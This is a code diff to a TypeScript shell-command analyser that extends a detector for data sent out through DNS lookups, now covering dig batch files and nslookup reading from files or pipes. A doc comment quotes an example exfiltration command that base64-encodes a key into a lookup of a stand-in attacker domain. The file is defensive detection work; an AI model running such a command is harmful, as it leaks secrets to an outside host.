@@ -179,7 +179,15 @@ export function devTcpEgress(seg: ShellSegment): ShellEgress | undefined {
  * name built from a command's output (`dig $(cat key | base64).evil.example`) carries that output out.
  */
 export function lookupEgress(seg: ShellSegment): ShellEgress | undefined {
-  if (!seg.args.some((a) => /\$\(|`/.test(a))) return undefined;
+  // Names read from a file (`dig -f FILE`) or, for nslookup, from a file or pipe on stdin carry
+  // that file out too; a resolver on the loopback forwards what it cannot answer.
+  const batch =
+    seg.program === 'dig' &&
+    seg.args.some((a, k) => /^-f./.test(a) || (a === '-f' && seg.args[k + 1] !== '/dev/null'));
+  const fromStdin =
+    seg.program === 'nslookup' &&
+    (seg.stdin_from === 'file' || seg.stdin_from === 'pipe' || seg.stdin_from === 'pipe-dynamic');
+  if (!batch && !fromStdin && !seg.args.some((a) => /\$\(|`/.test(a))) return undefined;
   return { kind: 'socket', data: true, hosts: [], remote: true };
 }
 
